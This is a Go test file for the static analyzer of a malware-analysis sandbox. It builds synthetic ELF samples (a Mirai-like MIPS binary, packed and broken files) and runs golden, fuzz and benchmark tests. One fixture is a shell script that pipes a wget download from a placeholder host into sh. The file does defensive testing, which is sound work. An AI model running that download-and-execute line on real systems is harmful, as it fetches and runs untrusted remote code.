// SPDX-License-Identifier: Apache-2.0

package static_test

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"flag"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/petri-sandbox/petri/analyzers"
	"github.com/petri-sandbox/petri/analyzers/analyzertest"
	"github.com/petri-sandbox/petri/analyzers/static"
	"github.com/petri-sandbox/petri/schemas"
	"github.com/petri-sandbox/petri/schemas/elfid/elftest"
)

func TestGolden(t *testing.T) { analyzertest.Golden(t, static.New()) }

func noise(n int) []byte {
	b := make([]byte, n)
	r := rand.NewChaCha8([32]byte{1})
	r.Read(b)
	return b
}

// inputs are the files in testdata that a program made.
func inputs() map[string][]byte {
	pie := elftest.File{
		Wide: true, Type: elftest.Dyn, Machine: 62, Interpreter: "/lib64/ld-linux-x86-64.so.2", Needed: []string{"libc.so.6"},
		PIE: true, BuildID: []byte{1, 2, 3, 4}, Sections: true, Symbols: true, Payload: []byte("code"),
	}
	mirai := elftest.File{Type: elftest.Exec, Machine: 8, Flags: 0x1007, Payload: bytes.Repeat([]byte("busybox "), 100)}
	broken := pie.Bytes()
	broken[elftest.EIData] = 2
	binary.LittleEndian.PutUint64(broken[40:], 1<<40) // e_shoff
	packed := elftest.File{Wide: true, Type: elftest.Exec, Machine: 183, Payload: noise(9000)}.Bytes()
	return map[string][]byte{
		"pie":            pie.Bytes(),
		"mipsel.dropped": mirai.Bytes(),
		"broken":         broken,
		"packed":         append(packed, "an overlay"...),
		"truncated":      pie.Bytes()[:80],
		"script":         []byte("#!/bin/sh\nwget http://example.invalid/x -O- | sh\n"),
		"empty":          {},
		"noise.dropped":  noise(5000),
	}
}

// TestInputs keeps testdata what inputs makes.
func TestInputs(t *testing.T) {
	for name, want := range inputs() {
		path := filepath.Join("testdata", name+".in")
		if flag.Lookup("update").Value.String() == "true" {
			if err := os.WriteFile(path, want, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if got, err := os.ReadFile(path); err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s is not what this test makes (%v); go test -update writes it", path, err)
		}
	}
}

func TestWrongBytes(t *testing.T) {
	job := analyzertest.Job(static.New(), "x", []byte("x"))
	job.Artifact.SHA256 = schemas.Sum([]byte("y"))
	if _, err := analyzers.Collect(t.Context(), static.New(), job); err == nil {
		t.Error("bytes that are not the artifact's are accepted")
	}
}

func collect(t testing.TB, b []byte) (analyzers.Collected, schemas.StaticResult) {
	t.Helper()
	c, err := analyzers.Collect(t.Context(), static.New(), analyzertest.Job(static.New(), "x", b))
	if err != nil {
		t.Fatal(err)
	}
	var r schemas.StaticResult
	if err := json.Unmarshal(c.Result, &r); err != nil {
		t.Fatal(err)
	}
	return c, r
}

func TestLarge(t *testing.T) {
	b := bytes.Repeat(append(noise(1<<20), make([]byte, 1<<20)...), 5) // 10 MiB, half of it zeros
	_, r := collect(t, b)
	if r.Entropy.BlockSize != 16<<10 || len(r.Entropy.Blocks) != 640 {
		t.Errorf("%d blocks of %d bytes", len(r.Entropy.Blocks), r.Entropy.BlockSize)
	}
	if r.Entropy.Blocks[0] < 7.9 || r.Entropy.Blocks[64] != 0 || r.Entropy.Whole < 4.9 || r.Entropy.Whole > 5.1 {
		t.Errorf("entropy %v, %v, %v", r.Entropy.Whole, r.Entropy.Blocks[0], r.Entropy.Blocks[64])
	}
}

// TestManyNames fills an identity until it no longer fits in a finding.
func TestManyNames(t *testing.T) {
	f := elftest.File{Wide: true, Type: elftest.Dyn, Machine: 62, Interpreter: strings.Repeat("/i", 1000), Payload: []byte("x")}
	for range 300 {
		f.Needed = append(f.Needed, strings.Repeat("l", 900))
	}
	c, r := collect(t, f.Bytes())
	if c.Cut != (schemas.TaskCut{}) || len(r.ELF.Needed) != 256 || r.ELF.Omitted.Needed != 44 || len(r.ELF.Anomalies) != 0 {
		t.Errorf("cut %+v, %d libraries, omitted %+v, anomalies %+v", c.Cut, len(r.ELF.Needed), r.ELF.Omitted, r.ELF.Anomalies)
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, b := range inputs() {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		c, r := collect(t, b) // fails unless Analyze returns nil
		for _, e := range append(r.Entropy.Blocks, r.Entropy.Whole) {
			if e < 0 || e > 8 {
				t.Fatalf("entropy %v", e)
			}
		}
		if len(r.Entropy.Blocks) > 1024 || r.Size != int64(len(b)) || r.SHA256 != schemas.Sum(b) {
			t.Fatalf("%d blocks, %d bytes, %s", len(r.Entropy.Blocks), r.Size, r.SHA256)
		}
		if len(c.Findings) == 0 || c.Findings[0].Kind != "file_identity" || c.Cut != (schemas.TaskCut{}) {
			t.Fatalf("%+v, cut %+v", c.Findings, c.Cut)
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	data := noise(16 << 20)
	job := analyzertest.Job(static.New(), "x", data)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := analyzers.Collect(b.Context(), static.New(), job); err != nil {
			b.Fatal(err)
		}
	}
}
